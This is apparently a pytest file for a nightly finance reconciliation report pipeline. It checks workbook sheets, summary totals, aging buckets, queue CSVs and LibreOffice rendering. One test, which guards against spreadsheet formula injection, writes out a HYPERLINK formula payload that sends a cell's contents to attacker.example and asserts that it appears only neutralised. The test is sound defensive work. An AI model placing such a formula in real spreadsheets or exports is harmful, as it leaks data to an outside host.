"""The night's report files, read back the way finance and a spreadsheet would."""

import csv
import json
import shutil
import subprocess
from collections import Counter
from decimal import Decimal

import duckdb
import openpyxl
import pytest

from corrections.approval import approve_corrections, list_corrections
from reports.cells import FORMULA_PREFIXES, PLAIN_NUMBER, is_live, neutralise
from reports.summary import AgingBuckets
from tests.reports.conftest import NIGHT, materialize_report
from tests.reports.stand_in import HOSTILE

DAY = NIGHT.isoformat()


def sheet_rows(sheet) -> list[dict]:
    rows = list(sheet.iter_rows(values_only=True))
    return [dict(zip(rows[0], row)) for row in rows[1:]]


def summary_table(sheet, title: str) -> dict[str, tuple]:
    """A summary breakdown table by its first column's label (the total under "Total")."""
    rows = list(sheet.iter_rows(values_only=True))
    start = next(n for n, row in enumerate(rows) if row[0] == title) + 1
    header = rows[start]
    table = {}
    for row in rows[start + 1 :]:
        if row[0] is None:
            break
        table[row[0] if header[1] != "code" or row[0] == "Total" else row[1]] = dict(zip(header, row))
    return table


def read_csv(path) -> list[dict]:
    with open(path, newline="", encoding="utf-8-sig") as handle:
        return list(csv.DictReader(handle))


def test_neutralise_prefixes_every_formula_start_and_nothing_else():
    assert [neutralise(p + "x") for p in FORMULA_PREFIXES] == ["'" + p + "x" for p in FORMULA_PREFIXES]
    assert neutralise("Acme & Sons") == "Acme & Sons" and neutralise("") == "" and neutralise("a=b") == "a=b"
    assert is_live("=1+1") and is_live("+1") and is_live("-2+3") and is_live("@A1") and is_live("\tx")
    assert not is_live("-250.50") and not is_live("'=1+1")


def test_aging_bucket_labels_follow_the_contract():
    buckets = AgingBuckets((30, 60, 90))
    assert buckets.labels == ["0-30", "31-60", "61-90", "90+"]
    assert [buckets.label(d) for d in (0, 30, 31, 60, 61, 90, 91, 400)] == [
        "0-30",
        "0-30",
        "31-60",
        "31-60",
        "61-90",
        "61-90",
        "90+",
        "90+",
    ]


def test_workbook_figures_equal_the_findings_and_tieout_tables(report):
    directory, _, written, _ = report
    open_findings = [f for f in written["findings"] if f["status"] == "open"]
    book = openpyxl.load_workbook(directory / f"tieout-{DAY}.xlsx")
    assert book.sheetnames == [
        "Summary",
        "Customers",
        "Engagements",
        "Time and WIP",
        "Invoices and cash",
        "Corrections",
        "Quarantine",
        "Tie-out",
        "Explained",
    ]
    summary = book["Summary"]
    headline = {row[0]: row[1] for row in summary.iter_rows(min_row=3, max_row=20, max_col=2, values_only=True)}
    assert headline["Open findings"] == len(open_findings) == 24
    assert headline["Resolved since the previous night"] == 2
    assert headline["New since the previous night"] == 3
    for currency in ("USD", "GBP", "EUR"):
        expected = sum(f["money_at_risk"] or 0 for f in open_findings if f["currency"] == currency)
        assert Decimal(str(headline[f"Money at risk {currency}"])) == expected

    by_queue = summary_table(summary, "By owner queue")
    assert {q: by_queue[q]["open findings"] for q in ("finance", "pmo", "sales_ops")} == dict(
        Counter(f["owner_queue"] for f in open_findings)
    )
    assert by_queue["Total"]["open findings"] == 24
    assert sum(by_queue["Total"][b] for b in ("0-30", "31-60", "61-90", "90+")) == 24
    assert by_queue["Total"]["previous night"] == 21 + 2 and by_queue["Total"]["change"] == 24 - 23
    by_code = summary_table(summary, "By code")
    assert {c: row["open findings"] for c, row in by_code.items() if c != "Total"} == dict(
        Counter(f["code"] for f in open_findings)
    )
    by_entity = summary_table(summary, "By legal entity")
    usd = sum(f["money_at_risk"] or 0 for f in open_findings if f["legal_entity"] == "US01")
    assert Decimal(str(by_entity["US01"]["money at risk USD"])) == usd
    assert len(summary._charts) == 2  # aging and by queue (the LibreOffice test sees them rendered)

    detail_ids = [
        r["finding_id"]
        for name in ("Customers", "Engagements", "Time and WIP", "Invoices and cash")
        for r in sheet_rows(book[name])
    ]
    assert sorted(detail_ids) == sorted(f["finding_id"] for f in written["findings"])
    amounts = {r["finding_id"]: r["amount_difference"] for r in sheet_rows(book["Invoices and cash"])}
    for finding in written["findings"]:
        if finding["category"] == "invoice_cash":
            expected = finding["amount_difference"]
            assert (
                None if amounts[finding["finding_id"]] is None else Decimal(str(amounts[finding["finding_id"]]))
            ) == expected
    assert [(r["state"], r["decision"]) for r in sheet_rows(book["Corrections"])] == [
        ("approved", "approved by policy"),  # policy auto: not a person's approval
        ("proposed", "waiting for a person"),
        ("proposed", "waiting for a person"),
    ]
    assert len(sheet_rows(book["Quarantine"])) == len(written["quarantine"])

    tieout = sheet_rows(book["Tie-out"])
    cells, totals = [r for r in tieout if r["month"] != "total"], [r for r in tieout if r["month"] == "total"]
    assert len(cells) == len(written["tieout"])
    for total in totals:
        rows = [t for t in written["tieout"] if t["legal_entity"] == total["legal_entity"]]
        for column in ("psa_billed", "erp_invoiced", "difference", "explained_by_findings", "unexplained"):
            assert Decimal(str(total[column])).quantize(Decimal("0.01")) == sum(r[column] for r in rows)


def test_findings_show_both_ages_by_name_and_amounts_as_numbers(report):
    """age_days counts nights open (0 for a finding new tonight); aging_days counts from the event and
    is what the summary's aging buckets count. Compared values are numbers where money is concerned."""
    directory, _, written, _ = report
    book = openpyxl.load_workbook(directory / f"tieout-{DAY}.xlsx")
    shown = {
        r["finding_id"]: r
        for name in ("Customers", "Engagements", "Time and WIP", "Invoices and cash")
        for r in sheet_rows(book[name])
    }
    new_tonight = [f for f in written["findings"] if f["status"] == "open" and f["first_seen"] == NIGHT]
    assert new_tonight
    for finding in new_tonight:
        row = shown[finding["finding_id"]]
        assert row["age_days"] == 0 and row["aging_days"] == (NIGHT - finding["event_date"]).days
    open_rows = [shown[f["finding_id"]] for f in written["findings"] if f["status"] == "open"]
    total = summary_table(book["Summary"], "By owner queue")["Total"]
    assert total["90+"] == sum(1 for r in open_rows if r["aging_days"] > 90)
    for finding in written["findings"]:
        row = shown[finding["finding_id"]]
        if finding["amount_difference"] is not None:
            assert isinstance(row["expected_value"], float)
            assert Decimal(str(row["expected_value"])) == Decimal(finding["expected_value"])
        else:
            assert row["expected_value"] == finding["expected_value"]  # text where no money is concerned
        if any(c.isalpha() for c in finding["actual_value"]):
            assert isinstance(row["actual_value"], str)  # text that is not an amount stays text


def test_sheets_have_frozen_headers_and_filters(report):
    directory, _, _, _ = report
    book = openpyxl.load_workbook(directory / f"tieout-{DAY}.xlsx")
    for name in book.sheetnames[1:]:
        assert book[name].freeze_panes == "B2", name
        assert book[name].auto_filter.ref and book[name].auto_filter.ref.startswith("A1:"), name


def test_no_text_cell_of_any_file_starts_with_a_formula_character(report):
    directory, _, _, _ = report
    manifest = json.loads((directory / "manifest.json").read_text())
    seen = []
    for entry in manifest["files"]:
        path = directory / entry["name"]
        if path.suffix == ".xlsx":
            book = openpyxl.load_workbook(path)
            for sheet in book.worksheets:
                for row in sheet.iter_rows():
                    for cell in row:
                        assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula"
                        if isinstance(cell.value, str):
                            seen.append(cell.value)
        else:
            with open(path, newline="", encoding="utf-8-sig") as handle:
                seen += [value for row in csv.reader(handle) for value in row]
    live = [text for text in seen if text.startswith(FORMULA_PREFIXES) and not PLAIN_NUMBER.match(text)]
    assert live == []
    assert "-2" not in seen and "'-2" in seen  # source text "-2" is neutralised; amounts like -250.50 are numbers
    for hostile in HOSTILE:  # each hostile source text is there, inert, and whole
        assert neutralise(hostile) in seen, hostile
    assert '\'=HYPERLINK("http://attacker.example/?x="&A1,"Open invoice")' in seen
    assert any("Société Générale — Zürich 東京" in text for text in seen)


def test_queue_files_hold_each_queues_open_findings(report):
    directory, _, written, _ = report
    manifest = {e["name"]: e for e in json.loads((directory / "manifest.json").read_text())["files"]}
    assert sorted(manifest) == sorted(
        [
            f"tieout-{DAY}.xlsx",
            f"queue-finance-{DAY}.csv",
            f"queue-pmo-{DAY}.csv",
            f"queue-sales_ops-{DAY}.csv",
            f"tieout-statement-{DAY}.csv",
        ]
    )
    for queue in ("finance", "pmo", "sales_ops"):
        rows = read_csv(directory / f"queue-{queue}-{DAY}.csv")
        expected = [f for f in written["findings"] if f["status"] == "open" and f["owner_queue"] == queue]
        assert sorted(r["finding_id"] for r in rows) == sorted(f["finding_id"] for f in expected)
        assert manifest[f"queue-{queue}-{DAY}.csv"]["queue"] == queue
        assert manifest[f"queue-{queue}-{DAY}.csv"]["rows"] == len(expected)
        assert sum(Decimal(r["money_at_risk"] or 0) for r in rows) == sum(f["money_at_risk"] or 0 for f in expected)
    statement = read_csv(directory / f"tieout-statement-{DAY}.csv")
    assert [r["month"] for r in statement].count("total") == 3
    assert manifest[f"tieout-{DAY}.xlsx"]["queue"] == manifest[f"tieout-statement-{DAY}.csv"]["queue"] == "all"


def test_metadata_shows_the_summary_table_and_the_paths(report):
    directory, result, _, _ = report
    metadata = result.asset_materializations_for_node("reports__workbook")[0].metadata
    summary = metadata["summary"]
    assert [r.data["owner_queue"] for r in summary.value.records] == ["finance", "pmo", "sales_ops", "Total"]
    assert summary.value.records[-1].data["open findings"] == 24
    assert metadata["path tieout"].value == str(directory / f"tieout-{DAY}.xlsx")
    assert metadata["directory"].value == str(directory)
    checks = {e.check_name: e.passed for e in result.get_asset_check_evaluations()}
    assert checks == {"files_as_written": True, "no_live_formula": True, "open_findings_match": True}


def test_a_past_night_regenerates_identically(own_report):
    directory, _, _, warehouse = own_report
    before = json.loads((directory / "manifest.json").read_text())
    proposed = [c["correction_id"] for c in list_corrections(warehouse, states=["proposed"])]
    assert approve_corrections(warehouse, proposed[:1], "ana.finance")
    assert materialize_report(warehouse).success
    assert json.loads((directory / "manifest.json").read_text()) == before  # same bytes, same hashes
    assert materialize_report(warehouse, refresh_corrections=True).success
    after = {e["name"]: e["sha256"] for e in json.loads((directory / "manifest.json").read_text())["files"]}
    assert after[f"tieout-{DAY}.xlsx"] != {e["name"]: e["sha256"] for e in before["files"]}[f"tieout-{DAY}.xlsx"]
    with duckdb.connect(str(warehouse), read_only=True) as db:
        assert db.execute("SELECT count(*) FROM reports.night_corrections WHERE state = 'approved'").fetchone()[0] == 2


def test_the_workbook_renders_in_libreoffice(report, tmp_path):
    soffice, pdftotext = shutil.which("soffice") or shutil.which("libreoffice"), shutil.which("pdftotext")
    if not soffice or not pdftotext:
        pytest.skip("LibreOffice (libreoffice-calc) and pdftotext (poppler-utils) are needed")
    directory, _, _, _ = report
    out = tmp_path / "pdf"
    subprocess.run(
        [
            soffice,
            f"-env:UserInstallation=file://{tmp_path}/lo-profile",
            "--headless",
            "--convert-to",
            "pdf",
            "--outdir",
            str(out),
            str(directory / f"tieout-{DAY}.xlsx"),
        ],
        check=True,
        capture_output=True,
        timeout=120,
    )
    text = subprocess.run(
        [pdftotext, "-layout", str(out / f"tieout-{DAY}.pdf"), "-"], check=True, capture_output=True, text=True
    ).stdout
    assert f"tieout reconciliation, night of {DAY}" in text
    assert "Open findings by aging_days" in text and "Open findings by owner queue" in text  # the charts
    assert "By owner queue" in text and "Invoices and cash" not in text.split("\f")[0]
    assert "'=HYPERLINK(" in text
